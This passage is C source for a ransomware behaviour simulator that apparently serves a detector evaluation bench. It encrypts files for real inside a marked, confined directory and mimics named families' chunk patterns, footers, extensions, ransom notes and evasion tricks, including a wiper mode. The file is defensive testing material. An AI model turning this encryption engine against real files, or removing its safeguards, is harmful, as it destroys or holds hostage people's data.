/* SPDX-License-Identifier: GPL-2.0-or-later
 *
 * ransim - ransomware *behaviour* simulator for the vigil evaluation bench.
 *
 * It reproduces how real families touch files (write patterns, footers,
 * renames, ransom notes, threading/forking, pacing) with genuine ciphertext
 * (OpenSSL EVP, AES-256-CTR), so that a detector sees what it would see
 * during a real attack.  It is harmless by construction:
 *
 *   - it refuses to run unless the target directory holds a regular file
 *     named .vigil-ransim-target (checked without following symlinks);
 *   - every path is opened with openat2(RESOLVE_BENEATH | RESOLVE_NO_SYMLINKS
 *     | RESOLVE_NO_MAGICLINKS | RESOLVE_NO_XDEV) relative to the target fd,
 *     so it can neither leave the target tree nor follow a symlink;
 *   - files with more than one hard link are skipped (a hard link could
 *     point at a file outside the target);
 *   - as uid 0 it refuses to run unless --user NAME is given, and then it
 *     drops to that user (setgroups/setgid/setuid, no_new_privs) before it
 *     opens the target, and verifies that root cannot be regained;
 *   - the keys are derived from --seed and never leave the process: this is
 *     not a usable piece of malware, there is no key escrow, no network, no
 *     spreading, no persistence.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <inttypes.h>
#include <limits.h>
#include <pthread.h>
#include <pwd.h>
#include <stdarg.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <openssl/evp.h>

#if defined(__has_include)
#if __has_include(<linux/openat2.h>)
#include <linux/openat2.h>
#define HAVE_LINUX_OPENAT2_H 1
#endif
#endif

#ifndef HAVE_LINUX_OPENAT2_H
struct open_how {
	uint64_t flags;
	uint64_t mode;
	uint64_t resolve;
};
#endif
#ifndef RESOLVE_NO_XDEV
#define RESOLVE_NO_XDEV 0x01
#endif
#ifndef RESOLVE_NO_MAGICLINKS
#define RESOLVE_NO_MAGICLINKS 0x02
#endif
#ifndef RESOLVE_NO_SYMLINKS
#define RESOLVE_NO_SYMLINKS 0x04
#endif
#ifndef RESOLVE_BENEATH
#define RESOLVE_BENEATH 0x08
#endif
#ifndef SYS_openat2
#define SYS_openat2 437
#endif

#define MARKER ".vigil-ransim-target"
#define KIB 1024LL
#define MIB (1024LL * 1024LL)
#define GIB (1024LL * MIB)
#define IOBUF (1 * MIB)

/* ------------------------------------------------------------------ */
/* globals                                                              */

static int g_root = -1;         /* fd of the target directory */
static int g_log = -1;          /* event log (opened before dropping root) */
static uint64_t g_seed = 1;
static int g_verbose;
static long g_percent = -1;     /* -1: behaviour default */
static long g_interval_ms = -1; /* -1: behaviour default */
static int g_threads = -1;      /* -1: behaviour default */
static char g_ext[32];          /* per-run extension (random for some families) */
static char g_note_name[96];
static pthread_mutex_t g_mu = PTHREAD_MUTEX_INITIALIZER;
/* counters live in a shared anonymous mapping so that forked children
 * (babuk-fork-per-file) add to the same totals */
struct counters {
	atomic_long files_done;
	atomic_llong bytes;
	atomic_long errors;
	atomic_long notes;
	atomic_llong first_write_ns;
};
static struct counters *C;
#define g_files_done (C->files_done)
#define g_bytes (C->bytes)
#define g_errors (C->errors)
#define g_notes (C->notes)
#define g_first_write_ns (C->first_write_ns)

static void die(int code, const char *fmt, ...) __attribute__((format(printf, 2, 3), noreturn));
static void die(int code, const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	fputs("ransim: ", stderr);
	vfprintf(stderr, fmt, ap);
	fputc('\n', stderr);
	va_end(ap);
	exit(code);
}

static void warnx_(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void warnx_(const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	fputs("ransim: ", stderr);
	vfprintf(stderr, fmt, ap);
	fputc('\n', stderr);
	va_end(ap);
}

static long long now_ns(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_REALTIME, &ts);
	return (long long)ts.tv_sec * 1000000000LL + ts.tv_nsec;
}

/* One line per destructive event: "<realtime ns> <pid> <op> <path>".  Written
 * with a single write(2) on an O_APPEND fd, so lines from threads and forked
 * children never interleave.  The timestamp is taken *before* the syscall it
 * describes, so "first destructive write" is never later than reality. */
static void logev(const char *op, const char *path)
{
	long long t = now_ns();
	if (strcmp(op, "note") != 0 && strcmp(op, "read") != 0) {
		long long zero = 0;
		atomic_compare_exchange_strong(&g_first_write_ns, &zero, t);
	}
	if (g_log < 0)
		return;
	char line[PATH_MAX + 96];
	int n = snprintf(line, sizeof line, "%lld %d %s %s\n", t, (int)getpid(), op, path);
	if (n > 0 && (size_t)n < sizeof line) {
		ssize_t w = write(g_log, line, (size_t)n);
		(void)w;
	}
}

/* ------------------------------------------------------------------ */
/* deterministic PRNG (splitmix64) for keys, IVs, extensions, footers   */

static uint64_t splitmix64(uint64_t *s)
{
	uint64_t z = (*s += 0x9E3779B97F4A7C15ULL);
	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
	z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
	return z ^ (z >> 31);
}

static uint64_t hash_str(const char *s)
{
	uint64_t h = 1469598103934665603ULL; /* FNV-1a */
	for (; *s; s++) {
		h ^= (unsigned char)*s;
		h *= 1099511628211ULL;
	}
	return h;
}

static void fill_random(uint64_t *state, unsigned char *buf, size_t n)
{
	for (size_t i = 0; i < n; i += 8) {
		uint64_t v = splitmix64(state);
		size_t k = n - i < 8 ? n - i : 8;
		memcpy(buf + i, &v, k);
	}
}

static void random_ext(uint64_t *state, char *out, size_t len, bool lower_alnum)
{
	static const char al[] = "abcdefghijklmnopqrstuvwxyz0123456789";
	static const char AL[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
	const char *set = lower_alnum ? al : AL;
	size_t m = lower_alnum ? sizeof al - 1 : sizeof AL - 1;
	for (size_t i = 0; i < len; i++)
		out[i] = set[splitmix64(state) % m];
	out[len] = 0;
}

/* ------------------------------------------------------------------ */
/* safe path operations                                                 */

static int open_beneath(const char *rel, int flags, mode_t mode)
{
	struct open_how how;
	memset(&how, 0, sizeof how);
	how.flags = (uint64_t)(flags | O_CLOEXEC | O_NOFOLLOW);
	how.mode = (flags & O_CREAT) ? mode : 0;
	how.resolve = RESOLVE_BENEATH | RESOLVE_NO_SYMLINKS | RESOLVE_NO_MAGICLINKS | RESOLVE_NO_XDEV;
	long r = syscall(SYS_openat2, g_root, rel, &how, sizeof how);
	return (int)r;
}

/* split "a/b/c" into dir "a/b" (or ".") and base "c" */
static void split_path(const char *rel, char *dir, size_t dl, const char **base)
{
	const char *slash = strrchr(rel, '/');
	if (!slash) {
		snprintf(dir, dl, ".");
		*base = rel;
	} else {
		size_t n = (size_t)(slash - rel);
		if (n >= dl)
			n = dl - 1;
		memcpy(dir, rel, n);
		dir[n] = 0;
		*base = slash + 1;
	}
}

static int open_parent(const char *rel, const char **base)
{
	char dir[PATH_MAX];
	split_path(rel, dir, sizeof dir, base);
	return open_beneath(dir, O_PATH | O_DIRECTORY, 0);
}

/* rename within the same directory (flags: renameat2's) */
static int rename_in_dir(const char *from, const char *to, unsigned flags)
{
	const char *b1, *b2;
	char d1[PATH_MAX], d2[PATH_MAX];
	split_path(from, d1, sizeof d1, &b1);
	split_path(to, d2, sizeof d2, &b2);
	if (strcmp(d1, d2) != 0 || strchr(b2, '/') != NULL) {
		errno = EXDEV;
		return -1;
	}
	int dfd = open_beneath(d1, O_PATH | O_DIRECTORY, 0);
	if (dfd < 0)
		return -1;
	logev("rename", from);
	int r = renameat2(dfd, b1, dfd, b2, flags);
	int e = errno;
	close(dfd);
	errno = e;
	return r;
}

/* never replacing an existing file */
static int safe_rename(const char *from, const char *to)
{
	return rename_in_dir(from, to, RENAME_NOREPLACE);
}

/* over an existing target file (what a save through a temporary file
 * does); `to` is a target already checked by open_target */
static int rename_over(const char *from, const char *to)
{
	return rename_in_dir(from, to, 0);
}

static int safe_unlink(const char *rel)
{
	const char *b;
	int dfd = open_parent(rel, &b);
	if (dfd < 0)
		return -1;
	struct stat st;
	int r = -1;
	if (fstatat(dfd, b, &st, AT_SYMLINK_NOFOLLOW) == 0 && S_ISREG(st.st_mode)) {
		logev("unlink", rel);
		r = unlinkat(dfd, b, 0);
	} else {
		errno = EPERM;
	}
	int e = errno;
	close(dfd);
	errno = e;
	return r;
}

static int write_all_at(int fd, const void *buf, size_t n, off_t off)
{
	const char *p = buf;
	while (n > 0) {
		ssize_t w = pwrite(fd, p, n, off);
		if (w < 0) {
			if (errno == EINTR)
				continue;
			return -1;
		}
		p += w;
		n -= (size_t)w;
		off += w;
	}
	return 0;
}

static ssize_t read_all_at(int fd, void *buf, size_t n, off_t off)
{
	char *p = buf;
	size_t got = 0;
	while (got < n) {
		ssize_t r = pread(fd, p + got, n - got, off + (off_t)got);
		if (r < 0) {
			if (errno == EINTR)
				continue;
			return -1;
		}
		if (r == 0)
			break;
		got += (size_t)r;
	}
	return (ssize_t)got;
}

/* ------------------------------------------------------------------ */
/* behaviours                                                           */

/* A span: encrypt `on` bytes out of every `period` bytes in [start, end).
 * A contiguous region has on == period (or period == 0). */
struct span {
	off_t start, end;
	off_t on, period;
};
#define MAXSPANS 16

struct fileinfo {
	const char *rel;
	off_t size;
};

typedef int (*plan_fn)(const struct fileinfo *f, struct span *s);

enum mode { M_INPLACE, M_NEWFILE, M_OTRUNC, M_MMAP, M_BASE64, M_RENAMEOVER };
enum xform { X_AES, X_XORFF, X_FILLCC };
enum extkind { E_NONE, E_FIXED, E_RANDOM_LOWER, E_RANDOM_MIXED, E_SIDEFILE };
enum notewhere { N_NONE, N_PER_DIR, N_ROOT };

struct behaviour {
	const char *name;
	const char *family;
	const char *summary;
	plan_fn plan;
	enum mode mode;
	enum xform xform;
	int footer;              /* bytes appended after the data (0: none) */
	const char *footer_magic;
	enum extkind ext;
	const char *ext_fixed;   /* for E_FIXED / E_SIDEFILE, or length for random */
	int ext_len;
	bool rename_first;
	bool truncate_after;     /* wiper: ftruncate(0) after overwrite */
	const char *note;        /* note file name; "%s" is replaced by the extension */
	enum notewhere note_where;
	int threads;
	bool fork_per_file;
	long interval_ms;
	int per_dir;             /* directory hopping: files per folder per visit */
	bool vm_only;            /* ESXi: only VM files */
	long percent;            /* default percent for percent-driven plans */
	bool exfil_first;        /* read every target before encrypting any */
	bool skip_decoys;        /* leave names that look like decoys alone */
};

static const struct behaviour *B;

static int sp(struct span *s, int i, off_t a, off_t b, off_t on, off_t period)
{
	s[i].start = a;
	s[i].end = b;
	s[i].on = on;
	s[i].period = period;
	return i + 1;
}

static int whole(off_t size, struct span *s)
{
	return sp(s, 0, 0, size, size, size);
}

static long pct(void)
{
	return g_percent >= 0 ? g_percent : B->percent;
}

static int plan_whole(const struct fileinfo *f, struct span *s)
{
	return whole(f->size, s);
}

static int plan_head4k(const struct fileinfo *f, struct span *s)
{
	off_t n = f->size < 4 * KIB ? f->size : 4 * KIB;
	return sp(s, 0, 0, n, n, n);
}

static int plan_head1m(const struct fileinfo *f, struct span *s)
{
	off_t n = f->size < MIB ? f->size : MIB;
	return sp(s, 0, 0, n, n, n);
}

/* Black Basta (2023 build): <5000 B whole; up to 1 GiB 64 B of every 192 B;
 * above, first 5000 B then 64 B of every 6400 B. */
static int plan_blackbasta(const struct fileinfo *f, struct span *s)
{
	if (f->size < 5000)
		return whole(f->size, s);
	if (f->size <= GIB)
		return sp(s, 0, 0, f->size, 64, 192);
	int n = sp(s, 0, 0, 5000, 5000, 5000);
	return sp(s, n, 5000, f->size, 64, 6400);
}

/* LockFile: every other 16 bytes */
static int plan_every_other_16(const struct fileinfo *f, struct span *s)
{
	return sp(s, 0, 0, f->size, 16, 32);
}

/* Conti: <1 MiB whole; 1-5 MiB first 1 MiB; >5 MiB 50% as 5 chunks of 10%
 * with 10% gaps. */
static int plan_conti(const struct fileinfo *f, struct span *s)
{
	off_t z = f->size;
	if (z < MIB)
		return whole(z, s);
	if (z <= 5 * MIB)
		return sp(s, 0, 0, MIB, MIB, MIB);
	int n = 0;
	off_t chunk = z / 10;
	for (int i = 0; i < 5; i++) {
		off_t a = (off_t)i * 2 * chunk;
		n = sp(s, n, a, a + chunk, chunk, chunk);
	}
	return n;
}

static bool is_vm_file(const char *rel)
{
	static const char *exts[] = { ".vmdk", ".vmx", ".vmxf", ".vmsd", ".vmsn", ".vswp", ".vmss",
		".nvram", ".vmem", ".vhd", ".vhdx", ".qcow2", ".img", NULL };
	const char *dot = strrchr(rel, '.');
	if (!dot)
		return false;
	for (int i = 0; exts[i]; i++)
		if (strcasecmp(dot, exts[i]) == 0)
			return true;
	return false;
}

/* Akira "percent" mode: files <= 2,000,000 B: the first p% (p set by the
 * operator, default 50); larger files: p% as 4 chunks spread evenly; VM disk
 * files whole. */
static int plan_akira_percent(const struct fileinfo *f, struct span *s)
{
	off_t z = f->size;
	long p = pct();
	if (is_vm_file(f->rel) || p >= 100)
		return whole(z, s);
	if (z <= 2000000) {
		off_t n = z * p / 100;
		if (n < 1 && z > 0)
			n = 1;
		return sp(s, 0, 0, n, n, n);
	}
	int n = 0;
	off_t total = z * p / 100, chunk = total / 4, step = z / 4;
	for (int i = 0; i < 4; i++)
		n = sp(s, n, i * step, i * step + chunk, chunk, chunk);
	return n;
}

/* Akira "spot" mode: a few small spots rather than a share of the file:
 * 2 spots for files <= 2,000,000 B, 4 spots above; each spot is p%/spots of
 * the file (p default 10), at least 4 KiB, spread evenly from offset 0. */
static int plan_akira_spot(const struct fileinfo *f, struct span *s)
{
	off_t z = f->size;
	int spots = z <= 2000000 ? 2 : 4;
	off_t len = z * pct() / 100 / spots;
	if (len < 4 * KIB)
		len = 4 * KIB;
	if (len * spots >= z)
		return whole(z, s);
	int n = 0;
	off_t step = z / spots;
	for (int i = 0; i < spots; i++)
		n = sp(s, n, i * step, i * step + len, len, len);
	return n;
}

/* Play: <= 16 MiB every block; larger: first and last 1 MiB plus every other
 * 1 MiB block in between. */
static int plan_play(const struct fileinfo *f, struct span *s)
{
	off_t z = f->size;
	if (z <= 16 * MIB)
		return whole(z, s);
	int n = sp(s, 0, 0, MIB, MIB, MIB);
	n = sp(s, n, 2 * MIB, z - MIB, MIB, 2 * MIB);
	return sp(s, n, z - MIB, z, MIB, MIB);
}

/* ESXiArgs: < 128 MB whole; larger 1 MB on / 1 MB off. */
static int plan_esxiargs(const struct fileinfo *f, struct span *s)
{
	if (f->size < 128 * 1000 * 1000)
		return whole(f->size, s);
	return sp(s, 0, 0, f->size, MIB, 2 * MIB);
}

/* Babuk ESXi: 1 MiB blocks from offset 0 up to 512 MiB. */
static int plan_babuk(const struct fileinfo *f, struct span *s)
{
	off_t n = f->size < 512 * MIB ? f->size : 512 * MIB;
	return sp(s, 0, 0, n, n, n);
}

/* Royal: <= 5 MB whole, otherwise 50% (p) as alternating 1 MiB blocks. */
static int plan_royal(const struct fileinfo *f, struct span *s)
{
	if (f->size <= 5 * 1000 * 1000)
		return whole(f->size, s);
	long p = pct();
	off_t period = p > 0 ? MIB * 100 / p : 2 * MIB;
	return sp(s, 0, 0, f->size, MIB, period);
}

/* Ryuk: <= 57 MB whole; larger a bounded number (10) of 1 MB blocks spread
 * across the file. */
static int plan_ryuk(const struct fileinfo *f, struct span *s)
{
	off_t z = f->size;
	if (z <= 57 * 1000 * 1000)
		return whole(z, s);
	int n = 0;
	off_t step = z / 10;
	for (int i = 0; i < 10; i++)
		n = sp(s, n, i * step, i * step + 1000000, 1000000, 1000000);
	return n;
}

/* WhisperGate-style wiper: first 1 MiB overwritten with 0xCC. */
static int plan_wiper(const struct fileinfo *f, struct span *s)
{
	return plan_head1m(f, s);
}

#define NOTE_ROOT_ONLY N_ROOT
static const struct behaviour behaviours[] = {
	{ .name = "ransomexx-whole", .family = "RansomEXX (Linux)",
	  .summary = "whole file in place with AES, key footer, victim-named extension",
	  .plan = plan_whole, .footer = 512, .footer_magic = "RXX!", .ext = E_FIXED,
	  .ext_fixed = ".stmarys-31337", .note = "!NEWS_FOR_STMARYS!.txt", .note_where = N_PER_DIR },
	{ .name = "lockbit2-head4k", .family = "LockBit 2.0",
	  .summary = "first 4 KiB only, 0x200-byte footer, random 9-char extension",
	  .plan = plan_head4k, .footer = 0x200, .footer_magic = "LB2\x00", .ext = E_RANDOM_MIXED,
	  .ext_len = 9, .note = "Restore-My-Files.txt", .note_where = N_PER_DIR },
	{ .name = "blackbasta-64of192", .family = "Black Basta (2023 build)",
	  .summary = "<5000 B whole; else 64 B of every 192 B (>1 GiB: 5000 B then 64 of 6400)",
	  .plan = plan_blackbasta, .footer = 0x200, .footer_magic = "BBST", .ext = E_RANDOM_LOWER,
	  .ext_len = 9, .note = "instructions_read_me.txt", .note_where = N_PER_DIR },
	{ .name = "lockfile-16", .family = "LockFile",
	  .summary = "every other 16 bytes in place (pread/pwrite), .lockfile extension",
	  .plan = plan_every_other_16, .ext = E_FIXED, .ext_fixed = ".lockfile",
	  .note = "LOCKFILE-README-FS01-svc_backup.hta", .note_where = N_PER_DIR },
	{ .name = "conti-chunks", .family = "Conti",
	  .summary = "<1 MiB whole; 1-5 MiB first 1 MiB; >5 MiB 50% as 5x10% chunks; 534-B footer",
	  .plan = plan_conti, .footer = 534, .footer_magic = "CNTI", .ext = E_FIXED, .ext_fixed = ".CONTI",
	  .note = "readme.txt", .note_where = N_PER_DIR },
	{ .name = "akira-percent", .family = "Akira (Linux/ESXi)",
	  .summary = "<=2,000,000 B first p% (p=50); larger p% in 4 spread chunks; VM disks whole",
	  .plan = plan_akira_percent, .footer = 534, .footer_magic = "AKRA", .ext = E_FIXED,
	  .ext_fixed = ".akira", .note = "akira_readme.txt", .note_where = N_PER_DIR, .percent = 50 },
	{ .name = "akira-spot", .family = "Akira (Linux/ESXi)",
	  .summary = "spot mode: 2 spots (<=2,000,000 B) or 4 spots, p=10% of the file in total",
	  .plan = plan_akira_spot, .footer = 534, .footer_magic = "AKRA", .ext = E_FIXED,
	  .ext_fixed = ".akira", .note = "akira_readme.txt", .note_where = N_PER_DIR, .percent = 10 },
	{ .name = "play-strided", .family = "Play",
	  .summary = "<=16 MiB every block; larger first+last 1 MiB and every other 1 MiB; 1064-B footer",
	  .plan = plan_play, .footer = 1064, .footer_magic = "PLAY", .ext = E_FIXED, .ext_fixed = ".PLAY",
	  .note = "ReadMe.txt", .note_where = N_ROOT },
	{ .name = "esxiargs-vm", .family = "ESXiArgs",
	  .summary = "VM files only: <128 MB whole, larger 1 MiB on / 1 MiB off; <file>.args sidecar",
	  .plan = plan_esxiargs, .ext = E_SIDEFILE, .ext_fixed = ".args", .vm_only = true,
	  .note = "How to Restore Your Files.html", .note_where = N_PER_DIR },
	{ .name = "wannacry-newfile", .family = "WannaCry",
	  .summary = "writes <f>.WNCRYT (header WANACRY!), renames to .WNCRY, deletes the original",
	  .plan = plan_whole, .mode = M_NEWFILE, .note = "@Please_Read_Me@.txt", .note_where = N_PER_DIR },
	{ .name = "renameover-tmp", .family = "evasion: save through a temporary file",
	  .summary = "writes <f>.tmp (whole file encrypted), renames it over <f>: no open for writing of the original",
	  .plan = plan_whole, .mode = M_RENAMEOVER, .note = "README_RESTORE.txt", .note_where = N_PER_DIR },
	{ .name = "base64-lowentropy", .family = "evasion (McIntosh 2019; Bang 2024)",
	  .summary = "AES ciphertext base64-encoded in place (~6 bits/byte), name kept",
	  .plan = plan_whole, .mode = M_BASE64, .note = "HOW_TO_RECOVER_FILES.txt", .note_where = N_PER_DIR },
	{ .name = "bitflip", .family = "evasion (format-preserving; Hive-like XOR)",
	  .summary = "every bit of the file flipped in place: entropy exactly unchanged, name kept",
	  .plan = plan_whole, .xform = X_XORFF, .note = "HOW_TO_DECRYPT.txt", .note_where = N_PER_DIR },
	{ .name = "qilin-rename-first", .family = "Qilin/Agenda names, order reversed",
	  .summary = "rename to random 10-char extension first, then encrypt whole file in place",
	  .plan = plan_whole, .footer = 256, .footer_magic = "QLN!", .ext = E_RANDOM_LOWER, .ext_len = 10,
	  .rename_first = true, .note = "%s-RECOVER-README.txt", .note_where = N_PER_DIR },
	{ .name = "royal-8threads", .family = "Royal",
	  .summary = "8 threads; <=5 MB whole, larger 50% in alternating 1 MiB blocks; .royal_w",
	  .plan = plan_royal, .footer = 512, .footer_magic = "RYL!", .ext = E_FIXED, .ext_fixed = ".royal_w",
	  .note = "README.TXT", .note_where = N_PER_DIR, .threads = 8, .percent = 50 },
	{ .name = "babuk-fork-per-file", .family = "Babuk ESXi (split across processes)",
	  .summary = "a new process per file; 1 MiB blocks from 0 up to 512 MiB; 32-B footer; .babyk",
	  .plan = plan_babuk, .footer = 32, .footer_magic = "BBK!", .ext = E_FIXED, .ext_fixed = ".babyk",
	  .note = "How To Restore Your Files.txt", .note_where = N_PER_DIR, .fork_per_file = true },
	{ .name = "ryuk-slow", .family = "Ryuk (paced)",
	  .summary = "one file every 5 s; <=57 MB whole, HERMES footer, .RYK",
	  .plan = plan_ryuk, .footer = 274, .footer_magic = "HERMES", .ext = E_FIXED, .ext_fixed = ".RYK",
	  .note = "RyukReadMe.txt", .note_where = N_PER_DIR, .interval_ms = 5000 },
	{ .name = "blackcat-dirhop", .family = "BlackCat/ALPHV (HeadOnly)",
	  .summary = "3 files per folder then the next folder; first 1 MiB; 7-char extension",
	  .plan = plan_head1m, .footer = 512, .footer_magic = "ALPV", .ext = E_RANDOM_LOWER, .ext_len = 7,
	  .note = "RECOVER-%s-FILES.txt", .note_where = N_PER_DIR, .per_dir = 3 },
	{ .name = "lockfile-mmap", .family = "LockFile (memory-mapped I/O)",
	  .summary = "every other 16 bytes written through a shared mmap, msync, .lockfile",
	  .plan = plan_every_other_16, .mode = M_MMAP, .ext = E_FIXED, .ext_fixed = ".lockfile",
	  .note = "LOCKFILE-README-FS01-svc_backup.hta", .note_where = N_PER_DIR },
	{ .name = "otrunc-rewrite", .family = "generic locker",
	  .summary = "read file, open(O_TRUNC), write ciphertext + footer; name kept",
	  .plan = plan_whole, .mode = M_OTRUNC, .footer = 256, .footer_magic = "GNRC",
	  .note = "README_FOR_DECRYPT.txt", .note_where = N_PER_DIR },
	{ .name = "wiper-truncate", .family = "WhisperGate-style wiper",
	  .summary = "first 1 MiB overwritten with 0xCC, then truncated to 0, random 4-char extension",
	  .plan = plan_wiper, .xform = X_FILLCC, .truncate_after = true, .ext = E_RANDOM_MIXED, .ext_len = 4,
	  .note_where = N_NONE },
	{ .name = "conti-32threads", .family = "Conti (threaded)",
	  .summary = "Conti's pattern with 32 threads, as the family runs by default",
	  .plan = plan_conti, .footer = 534, .footer_magic = "CNTI", .ext = E_FIXED, .ext_fixed = ".CONTI",
	  .note = "readme.txt", .note_where = N_PER_DIR, .threads = 32 },
	{ .name = "exfil-then-encrypt", .family = "double extortion (Conti/LockBit playbook)",
	  .summary = "reads every file first (staging for exfiltration), then Conti's chunks, .CONTI",
	  .plan = plan_conti, .footer = 534, .footer_magic = "CNTI", .ext = E_FIXED, .ext_fixed = ".CONTI",
	  .note = "readme.txt", .note_where = N_PER_DIR, .exfil_first = true },
	{ .name = "decoy-aware", .family = "evasion of decoy files",
	  .summary = "skips names that look like decoys (leading !, 0, _, ~, $), whole-file AES, .lockd",
	  .plan = plan_whole, .footer = 256, .footer_magic = "LCKD", .ext = E_FIXED, .ext_fixed = ".lockd",
	  .note = "RESTORE-FILES.txt", .note_where = N_PER_DIR, .skip_decoys = true },
	{ .name = "esxi-babuk-1m", .family = "Babuk ESXi",
	  .summary = "1 MiB blocks from offset 0 up to 512 MiB, 32-B footer, .babyk, single process",
	  .plan = plan_babuk, .footer = 32, .footer_magic = "BBK!", .ext = E_FIXED, .ext_fixed = ".babyk",
	  .note = "How To Restore Your Files.txt", .note_where = N_PER_DIR },
};
#define NBEH (sizeof behaviours / sizeof behaviours[0])

/* ------------------------------------------------------------------ */
/* transforms                                                           */

struct xf {
	EVP_CIPHER_CTX *ctx;
	enum xform kind;
};

static int xf_init(struct xf *x, const char *rel)
{
	x->kind = B->xform;
	x->ctx = NULL;
	if (x->kind != X_AES)
		return 0;
	uint64_t st = g_seed ^ hash_str(rel);
	unsigned char key[32], iv[16];
	fill_random(&st, key, sizeof key);
	fill_random(&st, iv, sizeof iv);
	x->ctx = EVP_CIPHER_CTX_new();
	if (!x->ctx || EVP_EncryptInit_ex(x->ctx, EVP_aes_256_ctr(), NULL, key, iv) != 1)
		return -1;
	return 0;
}

static void xf_free(struct xf *x)
{
	if (x->ctx)
		EVP_CIPHER_CTX_free(x->ctx);
	x->ctx = NULL;
}

/* transform n bytes in place */
static int xf_apply(struct xf *x, unsigned char *p, size_t n)
{
	switch (x->kind) {
	case X_AES: {
		size_t done = 0;
		while (done < n) {
			int chunk = (int)((n - done) > (size_t)INT_MAX / 2 ? (size_t)INT_MAX / 2 : n - done);
			int outl = 0;
			if (EVP_EncryptUpdate(x->ctx, p + done, &outl, p + done, chunk) != 1)
				return -1;
			done += (size_t)chunk;
		}
		return 0;
	}
	case X_XORFF:
		for (size_t i = 0; i < n; i++)
			p[i] ^= 0xFF;
		return 0;
	case X_FILLCC:
		memset(p, 0xCC, n);
		return 0;
	}
	return -1;
}

/* apply the spans to a memory image of the file */
static int xf_spans_mem(struct xf *x, unsigned char *base, const struct span *s, int ns)
{
	for (int i = 0; i < ns; i++) {
		off_t period = s[i].period > 0 ? s[i].period : s[i].end - s[i].start;
		off_t on = s[i].on;
		if (period <= 0)
			continue;
		for (off_t o = s[i].start; o < s[i].end; o += period) {
			off_t n = on;
			if (o + n > s[i].end)
				n = s[i].end - o;
			if (xf_apply(x, base + o, (size_t)n) != 0)
				return -1;
		}
	}
	return 0;
}

/* apply the spans through pread/pwrite, 1 MiB (aligned to the period) at a
 * time; each buffer is read, the `on` parts transformed, and written back at
 * the same offset. */
static int xf_spans_fd(struct xf *x, int fd, const struct span *s, int ns, const char *rel, bool *logged)
{
	unsigned char *buf = malloc(IOBUF + 8192);
	if (!buf)
		return -1;
	int rc = 0;
	for (int i = 0; i < ns && rc == 0; i++) {
		off_t period = s[i].period > 0 ? s[i].period : s[i].end - s[i].start;
		off_t on = s[i].on;
		if (period <= 0 || s[i].end <= s[i].start)
			continue;
		if (on == period) { /* contiguous */
			for (off_t o = s[i].start; o < s[i].end && rc == 0; o += IOBUF) {
				size_t n = (size_t)((s[i].end - o) < IOBUF ? (s[i].end - o) : IOBUF);
				ssize_t r = read_all_at(fd, buf, n, o);
				if (r < 0) { rc = -1; break; }
				if (r == 0) break;
				if (xf_apply(x, buf, (size_t)r) != 0) { rc = -1; break; }
				if (!*logged) { logev("write", rel); *logged = true; }
				if (write_all_at(fd, buf, (size_t)r, o) != 0) { rc = -1; break; }
				atomic_fetch_add(&g_bytes, r);
			}
		} else if (period <= IOBUF / 2) { /* fine-grained: whole periods per buffer */
			off_t blk = (IOBUF / period) * period;
			for (off_t o = s[i].start; o < s[i].end && rc == 0; o += blk) {
				size_t n = (size_t)((s[i].end - o) < blk ? (s[i].end - o) : blk);
				ssize_t r = read_all_at(fd, buf, n, o);
				if (r <= 0) { rc = r < 0 ? -1 : 0; break; }
				for (off_t k = 0; k < r; k += period) {
					off_t m = on;
					if (k + m > r)
						m = r - k;
					if (xf_apply(x, buf + k, (size_t)m) != 0) { rc = -1; break; }
				}
				if (!*logged) { logev("write", rel); *logged = true; }
				if (write_all_at(fd, buf, (size_t)r, o) != 0) { rc = -1; break; }
				atomic_fetch_add(&g_bytes, r);
			}
		} else { /* coarse blocks: one region per period */
			for (off_t o = s[i].start; o < s[i].end && rc == 0; o += period) {
				off_t left = on;
				if (o + left > s[i].end)
					left = s[i].end - o;
				for (off_t q = o; q < o + left && rc == 0; q += IOBUF) {
					size_t n = (size_t)((o + left - q) < IOBUF ? (o + left - q) : IOBUF);
					ssize_t r = read_all_at(fd, buf, n, q);
					if (r <= 0) { rc = r < 0 ? -1 : 0; break; }
					if (xf_apply(x, buf, (size_t)r) != 0) { rc = -1; break; }
					if (!*logged) { logev("write", rel); *logged = true; }
					if (write_all_at(fd, buf, (size_t)r, q) != 0) { rc = -1; break; }
					atomic_fetch_add(&g_bytes, r);
				}
			}
		}
	}
	free(buf);
	return rc;
}

static void make_footer(unsigned char *buf, int len, const char *rel, off_t orig)
{
	uint64_t st = g_seed ^ hash_str(rel) ^ 0xF00DF00DULL;
	fill_random(&st, buf, (size_t)len); /* stands in for the wrapped key */
	const char *magic = B->footer_magic ? B->footer_magic : "";
	size_t ml = strlen(magic);
	if (len >= (int)(ml + 8)) {
		uint64_t o = (uint64_t)orig;
		memcpy(buf + len - ml - 8, &o, 8); /* original size / progress counter */
		memcpy(buf + len - ml, magic, ml);
	}
}

/* ------------------------------------------------------------------ */
/* notes                                                                */

static char **g_noted;
static size_t g_nnoted, g_capnoted;

static void note_text(char *buf, size_t n, const char *dir)
{
	snprintf(buf, n,
		 "---- %s ----\r\n"
		 "Your network has been penetrated and the files on this share (%s) are encrypted.\r\n"
		 "Do not rename or modify the encrypted files. Do not try to decrypt them with\r\n"
		 "third-party software. To get the decryptor, contact us with your personal ID.\r\n"
		 "\r\n"
		 "[THIS IS A SIMULATION written by vigil's evaluation bench (eval/sim/ransim).\r\n"
		 " Behaviour: %s. No data has left this machine; the keys are derived from\r\n"
		 " seed %" PRIu64 " and the originals are recorded in the bench's manifest.]\r\n",
		 B->family, dir, B->name, g_seed);
}

static void note_name(char *out, size_t n)
{
	const char *fmt = B->note;
	const char *pc = strstr(fmt, "%s");
	const char *ext = g_ext[0] == '.' ? g_ext + 1 : g_ext;
	if (pc)
